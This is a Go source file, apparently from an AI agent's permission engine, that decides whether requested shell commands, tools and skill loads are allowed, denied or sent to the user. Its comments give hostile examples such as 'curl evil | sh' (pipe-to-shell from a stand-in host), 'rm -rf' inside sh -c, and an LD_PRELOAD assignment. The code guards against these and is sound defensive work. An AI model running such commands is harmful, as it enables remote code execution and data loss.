package agentpolicy

import (
	"errors"
	"fmt"
	"slices"
	"strings"

	"corral.dev/corral/policyengine"
)

// SystemTools are tools allowed without a rule: they only read.
var SystemTools = []string{"read", "grep", "glob", "search"}

// SystemCommands are commands allowed without a rule: they only read
// (readOnlyCommands has the options each may take).
var SystemCommands = []string{"pwd", "ls", "rg", "grep", "find", "sort", "cat", "head", "tail", "wc", "stat",
	"file", "uname", "whoami", "date", "git status", "git diff", "git show", "git log", "git rev-parse",
	"git ls-files", "git grep"}

// compiledRule is a Rule with its layer.
type compiledRule struct {
	Rule
	layer string
	glob  pattern // CommandGlob, with the same * ? \* syntax as URL rules
}

func (r compiledRule) text() string { return r.Rule.String() }

// String writes the rule as the policy does in flow style:
// {command: git status}.
func (r Rule) String() string {
	var parts []string
	for _, f := range [][2]string{{"tool", r.Tool}, {"command", r.Command}, {"command_glob", r.CommandGlob}, {"skill_name", r.SkillName}} {
		if f[1] != "" {
			parts = append(parts, f[0]+": "+f[1])
		}
	}
	return "{" + strings.Join(parts, ", ") + "}"
}

// segment is one program a shell line runs, normalised. Deny rules match
// it by the program's base name (a rule for rm also stops /bin/rm); allow
// rules and the built-in list only as written (./ls is not ls).
type segment struct {
	words, base []string
	text, btext string
	// awords are words with the assignments before them: allow rules
	// match these, so that {command: make} does not allow
	// "LD_PRELOAD=x make"; only a rule that names the assignment does.
	awords    []string
	atext     string
	qtext     string // atext with words quoted where joining loses them (quotedText): allow globs match it
	redirects []policyengine.Redirect
	redir     bool  // has an output redirection
	writes    bool  // has a redirection that writes a file (not 2>&1 or /dev/null)
	assigns   bool  // NAME=value before the program: it may run something else
	expanding []int // indices in words the shell expands: they may be options
	shell     bool  // sh -c or eval: allow rules look at the script's programs instead
}

// segments are every program the line runs, found the way the skills'
// exec check finds them (inside sh -c, eval, env, sudo, xargs, find -exec
// and other wrappers), each named by its base name: a rule for "rm" also
// covers "/bin/rm", "env rm" and "sh -c 'rm -rf x'".
func segments(line string) ([]segment, error) {
	invs, err := policyengine.Invocations(line)
	if err != nil {
		return nil, err
	}
	var out []segment
	for _, inv := range invs {
		base := append([]string{inv.Name}, inv.Words[1:]...)
		s := segment{words: inv.Words, base: base, text: strings.Join(inv.Words, " "), btext: strings.Join(base, " "),
			assigns: len(inv.Assigns) > 0, expanding: inv.Expanding, shell: inv.Shell && plainShell(inv.Words)}
		s.awords, s.atext, s.qtext = s.words, s.text, quotedText(nil, inv.Words)
		if inv.Name == "" {
			s.qtext = quotedText(inv.Assigns, nil)
		} else if s.assigns {
			s.awords = append(slices.Clone(inv.Assigns), inv.Words...)
			s.atext = strings.Join(s.awords, " ")
			s.qtext = quotedText(inv.Assigns, inv.Words)
		}
		s.redirects = inv.Redirects
		for _, r := range inv.Redirects {
			if r.Op != "<" && r.Op != "<<" && r.Op != "<<<" && r.Op != "<&" {
				s.redir = true
			}
			s.writes = s.writes || writesFile(r)
		}
		out = append(out, s)
	}
	if len(out) == 0 {
		return nil, policyengine.ErrEmptyCommand
	}
	return out, nil
}

// roughSegments are a line that cannot be read, cut at the words that are
// only operators (&&, ||, ;, |, &) and with leading keywords and
// brackets dropped: deny rules are matched to these as a best effort (a
// deny is never wrong to give; an allow needs the real reading).
func roughSegments(line string) []segment {
	var out []segment
	var w []string
	flush := func() {
		for len(w) > 0 && roughLead[w[0]] {
			w = w[1:]
		}
		if len(w) > 0 {
			text := strings.Join(w, " ")
			out = append(out, segment{words: w, base: w, awords: w, text: text, btext: text, atext: text, qtext: text})
		}
		w = nil
	}
	for _, f := range strings.Fields(line) {
		f = strings.TrimLeft(f, "({")
		if f == "" {
			continue
		}
		switch strings.TrimRight(f, ";") {
		case "&&", "||", "|", "&", "":
			flush()
			continue
		}
		cut := strings.HasSuffix(f, ";")
		if f = strings.TrimRight(f, ";)}"); f != "" {
			w = append(w, f)
		}
		if cut {
			flush()
		}
	}
	flush()
	return out
}

// roughLead are the words that start a command without being its program.
var roughLead = map[string]bool{"if": true, "then": true, "else": true, "elif": true, "do": true, "while": true, "until": true, "!": true, "time": true}

// matches reports whether the rule matches the segment (or the whole
// line, for command_glob) of a use of tool.
// matches reports whether the rule matches the segment of a use of tool;
// wholeLine lets a command_glob match the whole line too (deny rules only:
// an allow glob over the line would let every segment of "git log && curl
// evil | sh" through).
func (r compiledRule) matches(tool string, seg *segment, line string, skills []string, wholeLine bool) bool {
	if r.Tool != "" && r.Tool != tool {
		return false
	}
	if r.SkillName != "" && !slices.Contains(skills, r.SkillName) {
		return false
	}
	words, text := seg.wordsFor(wholeLine)
	if r.Command != "" {
		if seg == nil {
			return false
		}
		want := strings.Fields(r.Command)
		if len(words) < len(want) || !slices.Equal(words[:len(want)], want) {
			return false
		}
	}
	if r.CommandGlob != "" {
		if seg == nil {
			return false
		}
		if !r.glob.match(text) && !(wholeLine && r.glob.match(line)) {
			return false
		}
	}
	return true
}

// wordsFor are the words a rule matches and the text a command_glob
// matches: by base name, and for git without its global options ("git -C
// . push" is "git push"), for deny rules (deny is true); as written for
// allow rules, the text with words quoted where a space or quote in a
// word would otherwise let the rule match other words.
func (s *segment) wordsFor(deny bool) ([]string, string) {
	if s == nil {
		return nil, ""
	}
	if deny {
		if s.base[0] == "git" {
			w := gitSubcommand(s.base)
			return w, strings.Join(w, " ")
		}
		return s.base, s.btext
	}
	return s.awords, s.qtext
}

// gitValueOptions are git's global options that take a separate value.
var gitValueOptions = map[string]bool{"-C": true, "-c": true, "--git-dir": true, "--work-tree": true,
	"--namespace": true, "--exec-path": true, "--super-prefix": true, "--config-env": true, "--list-cmds": true}

// gitSubcommand drops git's global options, so the subcommand follows
// "git".
func gitSubcommand(words []string) []string {
	i := 1
	for i < len(words) && strings.HasPrefix(words[i], "-") {
		if gitValueOptions[words[i]] {
			i++
		}
		i++
	}
	if i > len(words) {
		i = len(words)
	}
	return append([]string{"git"}, words[i:]...)
}

// plainShell reports whether a shell's words before its -c script only
// set options that change nothing but error handling and tracing (sh -c,
// bash -euo pipefail -c): then the script's programs decide. -i, -l,
// --rcfile and the like read startup files, which no rule has seen.
func plainShell(words []string) bool {
	safeSet := []string{"pipefail", "errexit", "nounset", "xtrace", "noglob", "noclobber"}
	for i := 1; i < len(words); i++ {
		w := words[i]
		// A login shell is an ordinary one to the policy: the sandbox
		// gives it no startup files of the user's.
		if w == "--norc" || w == "--noprofile" || w == "--posix" || w == "--login" {
			continue
		}
		if len(w) < 2 || w[0] != '-' && w[0] != '+' {
			return false
		}
		hasC := false
		for _, f := range w[1:] {
			switch {
			case f == 'c':
				hasC = true
			case f == 'o':
				if i+1 >= len(words) || !slices.Contains(safeSet, words[i+1]) {
					return false
				}
				i++
			case !strings.ContainsRune("euxvfnCl", f):
				return false
			}
		}
		if hasC {
			return true
		}
	}
	return false
}

// decideCommand applies the rules to a shell line run by tool: a deny rule
// on any segment denies; every segment allowed (by a rule, a skill's
// pre-approval or the built-in read-only list) allows; anything else needs
// confirmation.
func decideCommand(allow, deny []compiledRule, pre []Preapproval, tool, line string, skills []string) policyengine.Decision {
	segs, err := segments(line)
	norm := strings.Join(strings.Fields(line), " ")
	if err != nil && !errors.Is(err, policyengine.ErrEmptyCommand) {
		// No allow rule can be matched to programs that cannot be told
		// (a wrapper whose options corral does not read, syntax its
		// reader does not follow): the user is asked. A deny rule still
		// denies where it matches the line's own words.
		for _, part := range roughSegments(line) {
			for _, r := range deny {
				if r.matches(tool, &part, norm, skills, true) {
					return policyengine.Decision{Action: policyengine.Deny, Rule: "permissions.deny " + r.text(), Layer: r.layer,
						Reason: fmt.Sprintf("%q is denied by the %s policy's rule %s", part.text, r.layer, r.text())}
				}
			}
		}
		return policyengine.Decision{Action: policyengine.Confirm,
			Reason: fmt.Sprintf("cannot tell which programs %q runs (%v): ask the user", norm, err)}
	}
	if err != nil {
		return policyengine.Decision{Action: policyengine.Deny, Reason: fmt.Sprintf("cannot check the command line: %v", err)}
	}
	for i := range segs {
		for _, r := range deny {
			if r.matches(tool, &segs[i], norm, skills, true) {
				return policyengine.Decision{Action: policyengine.Deny, Rule: "permissions.deny " + r.text(), Layer: r.layer,
					Reason: fmt.Sprintf("%q is denied by the %s policy's rule %s", segs[i].text, r.layer, r.text())}
			}
		}
	}
	var unsure []string
	var by, layers []string
	for i := range segs {
		if segs[i].shell && !segs[i].redir && !segs[i].assigns {
			continue // its script's programs are the next segments
		}
		ok := false
		for _, r := range allow {
			if r.matches(tool, &segs[i], norm, skills, false) {
				ok = true
				by = append(by, r.text())
				if !slices.Contains(layers, r.layer) {
					layers = append(layers, r.layer)
				}
				break
			}
		}
		for _, p := range pre {
			if ok {
				break
			}
			if p.matches(tool, &segs[i]) {
				ok = true
				by = append(by, p.text())
				if !slices.Contains(layers, p.layer()) {
					layers = append(layers, p.layer())
				}
			}
		}
		if !ok && (tool == "" || tool == "bash" || tool == "shell") && readOnly(segs[i]) {
			ok = true
			by = append(by, "the built-in read-only list")
		}
		if !ok {
			unsure = append(unsure, segs[i].qtext)
		}
	}
	if len(unsure) > 0 {
		hint := "ask the user"
		if rules, err := RememberRules(line); err == nil && len(rules) > 0 {
			var add []string
			for _, r := range rules {
				add = append(add, fmt.Sprintf("{command_glob: %q}", r.CommandGlob))
			}
			hint += fmt.Sprintf(", or add %s to permissions.allow (what corral policy remember stores)", strings.Join(add, ", "))
		}
		return policyengine.Decision{Action: policyengine.Confirm,
			Reason: fmt.Sprintf("no rule allows %q: %s", strings.Join(unsure, "; "), hint)}
	}
	return policyengine.Decision{Action: policyengine.Allow, Rule: strings.Join(by, "; "), Layer: strings.Join(layers, ", "),
		Reason: fmt.Sprintf("every command of %q is allowed (%s)", norm, strings.Join(by, "; "))}
}

// SkillLoad is the tool that loads a skill. Its argument is the name of
// the skill to load, not a command line; a rule's skill_name is matched
// against that name, not against the active skills, so that
// {tool: skill_load, skill_name: X} decides whether X may be loaded
// whatever is active already.
const SkillLoad = "skill_load"

// decideSkillLoad applies the rules to loading skill name: rules without
// command or command_glob, for skill_load or any tool, whose skill_name
// is empty or name.
func decideSkillLoad(allow, deny []compiledRule, name string) policyengine.Decision {
	if name == "" {
		return policyengine.Decision{Action: policyengine.Deny, Reason: "skill_load without a skill name: nothing to decide"}
	}
	loading := []string{name}
	for _, r := range deny {
		if r.Command == "" && r.CommandGlob == "" && r.matches(SkillLoad, nil, "", loading, false) {
			return policyengine.Decision{Action: policyengine.Deny, Rule: "permissions.deny " + r.text(), Layer: r.layer,
				Reason: fmt.Sprintf("loading skill %s is denied by the %s policy's rule %s", name, r.layer, r.text())}
		}
	}
	for _, r := range allow {
		if r.Command == "" && r.CommandGlob == "" && r.matches(SkillLoad, nil, "", loading, false) {
			return policyengine.Decision{Action: policyengine.Allow, Rule: "permissions.allow " + r.text(), Layer: r.layer,
				Reason: fmt.Sprintf("loading skill %s is allowed by the %s policy's rule %s", name, r.layer, r.text())}
		}
	}
	return policyengine.Decision{Action: policyengine.Confirm,
		Reason: fmt.Sprintf("no rule allows loading skill %s: ask the user, or add {tool: %s, skill_name: %s} to permissions.allow", name, SkillLoad, name)}
}

// decideTool applies the rules to a tool used without a command line.
func decideTool(allow, deny []compiledRule, tool string, skills []string) policyengine.Decision {
	for _, r := range deny {
		if r.Command == "" && r.CommandGlob == "" && r.matches(tool, nil, "", skills, false) {
			return policyengine.Decision{Action: policyengine.Deny, Rule: "permissions.deny " + r.text(), Layer: r.layer,
				Reason: fmt.Sprintf("tool %s is denied by the %s policy's rule %s", tool, r.layer, r.text())}
		}
	}
	for _, r := range allow {
		if r.Command == "" && r.CommandGlob == "" && r.matches(tool, nil, "", skills, false) {
			return policyengine.Decision{Action: policyengine.Allow, Rule: "permissions.allow " + r.text(), Layer: r.layer,
				Reason: fmt.Sprintf("tool %s is allowed by the %s policy's rule %s", tool, r.layer, r.text())}
		}
	}
	if slices.Contains(SystemTools, tool) {
		return policyengine.Decision{Action: policyengine.Allow, Rule: "built-in read-only tools",
			Reason: fmt.Sprintf("tool %s only reads: it is on the built-in allowlist", tool)}
	}
	return policyengine.Decision{Action: policyengine.Confirm,
		Reason: fmt.Sprintf("no rule allows tool %s: ask the user, or add {tool: %s} to permissions.allow", tool, tool)}
}
